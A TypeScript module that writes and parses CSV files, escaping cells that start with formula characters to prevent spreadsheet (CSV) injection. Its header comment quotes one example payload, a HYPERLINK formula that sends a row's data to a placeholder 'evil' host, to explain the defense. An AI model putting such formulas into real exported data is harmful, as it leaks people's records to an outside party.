/**
 * The one CSV writer for files the platform hands out (RFC 4180: comma, CRLF, quotes doubled). Staff open these
 * files in Excel or WPS, which run a cell that starts with = + - @ (or a tab / CR before one) as a formula: a
 * holder name of `=HYPERLINK("http://evil/?"&A1)` would send the row away on a click (OWASP CSV injection;
 * ASVS 5.0 1.2.10). Such text gets a leading apostrophe, which spreadsheets show as text. Numbers pass as they are.
 */
export type CsvCell = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r\0]/;

export function csvField(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  if (typeof cell === 'number') return String(cell);
  const text = FORMULA_START.test(cell) ? `'${cell}` : cell;
  return /[",\r\n]/.test(text) || text !== cell ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvLine(cells: readonly CsvCell[]): string {
  return cells.map(csvField).join(',');
}

/** The whole file: a UTF-8 byte-order mark (Excel reads the file as GBK without it), lines ending in CRLF. */
export function csvDocument(rows: readonly (readonly CsvCell[])[]): string {
  return `\ufeff${rows.map(csvLine).join('\r\n')}\r\n`;
}

export interface CsvRecord {
  line: number;
  fields: string[];
  unterminated: boolean;
}

/** Splits CSV text into records of fields, each with the line it starts on; quotes may span lines. */
export function csvRecords(text: string): CsvRecord[] {
  return [...eachCsvRecord(text)];
}

const QUOTE = 34;
const LF = 10;
const CR = 13;

/**
 * The records one at a time, so a million-line file is checked as it is read rather than held twice. A line
 * without a quote (nearly all of a department's file) is cut at its commas in one go; a line with one is read
 * character by character (doubled quotes, commas and line breaks inside quotes).
 */
export function* eachCsvRecord(text: string): Generator<CsvRecord> {
  let line = 1;
  let i = 0;
  const n = text.length;
  while (i < n) {
    let j = i;
    let c = 0;
    while (j < n) {
      c = text.charCodeAt(j);
      if (c === LF || c === CR || c === QUOTE) break;
      j++;
    }
    if (j === n || c !== QUOTE) {
      if (j > i) yield { line, fields: text.slice(i, j).split(','), unterminated: false };
      i = c === CR && text.charCodeAt(j + 1) === LF ? j + 2 : j + 1;
      line++;
      continue;
    }
    // A quote on this line: the careful way, from the line's start to the end of its record.
    const start = line;
    const fields: string[] = [];
    let field = '';
    let quoted = false;
    let hasContent = false;
    let k = i;
    for (; k < n; k++) {
      const ch = text[k];
      if (quoted) {
        if (ch === '"' && text[k + 1] === '"') {
          field += '"';
          k++;
        } else if (ch === '"') quoted = false;
        else {
          if (ch === '\n') line++;
          field += ch;
        }
        continue;
      }
      if (ch === '"' && field === '') {
        quoted = true;
        hasContent = true;
      } else if (ch === ',') {
        fields.push(field);
        field = '';
        hasContent = true;
      } else if (ch === '\n' || ch === '\r') {
        if (ch === '\r' && text[k + 1] === '\n') k++;
        break;
      } else {
        field += ch;
        hasContent = true;
      }
    }
    if (hasContent || field !== '' || quoted) yield { line: start, fields: [...fields, field], unterminated: quoted };
    line++;
    i = k + 1;
  }
}
